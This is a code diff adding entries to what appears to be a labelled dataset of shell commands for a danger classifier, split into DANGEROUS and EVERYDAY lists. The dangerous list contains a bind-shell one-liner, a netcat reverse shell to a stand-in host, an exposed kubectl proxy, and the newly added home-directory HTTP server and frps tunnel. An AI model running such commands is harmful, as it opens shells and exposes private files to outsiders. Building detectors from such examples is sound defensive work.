@@ -419,6 +419,8 @@ DANGEROUS: dict[str, list[str]] = {
         "kubectl proxy --address=0.0.0.0 --accept-hosts='.*'",
         "python3 -c \"import socket,subprocess;s=socket.socket();s.bind(('0.0.0.0',4444));s.listen(1);c,_=s.accept();subprocess.call(['/bin/sh'],stdin=c,stdout=c)\"",
         "mkfifo f; nc x.example 4444 < f | /bin/bash > f",
+        "python3 -c \"import http.server, os; os.chdir(os.path.expanduser('~')); http.server.test(HandlerClass=http.server.SimpleHTTPRequestHandler, bind='0.0.0.0')\"",
+        "frps -c frps.ini",
     ],
     "infra-cloud": [
         'kubectl patch deploy api -p \'{"spec":{"replicas":0}}\'',
@@ -917,6 +919,7 @@ EVERYDAY: list[str] = [
     "while ! nc -z localhost 5432; do sleep 1; done",
     "head -c 16 /dev/urandom | xxd -p",
     "openssl rand -base64 32",
+    "node -e \"require('http').createServer((q, r) => r.end('ok')).listen(3000)\"",
     'x=build; rm -rf "$x"',
     'set -- src tests; ruff check "$@"',
 ]
